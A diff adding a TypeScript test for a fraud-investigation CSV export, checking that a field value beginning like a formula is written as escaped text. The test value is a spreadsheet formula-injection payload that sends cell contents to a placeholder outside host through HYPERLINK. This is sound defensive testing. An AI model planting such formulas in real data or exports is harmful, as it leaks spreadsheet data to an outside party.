@@ -83,3 +83,17 @@ describe('the SIU export closes the loop: refer → investigate → label → re
     );
   }, 60_000);
 });
+
+describe('the SIU export opened in a spreadsheet', () => {
+  it('writes a value from the policy system that starts like a formula as text, and negative numbers as numbers', () => {
+    const [claim] = history(1);
+    const features = {
+      ...claim!.features,
+      Make: '=HYPERLINK("https://x.example/?"&A2,"Toyota")',
+    } as FeatureRow;
+    const csv = trainingCsv([{ ...claim!, features }]);
+    expect(csv).not.toMatch(/[,\n]"?=HYPERLINK/);
+    const [record] = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(record?.Make).toBe(`'=HYPERLINK("https://x.example/?"&A2,"Toyota")`);
+  });
+});
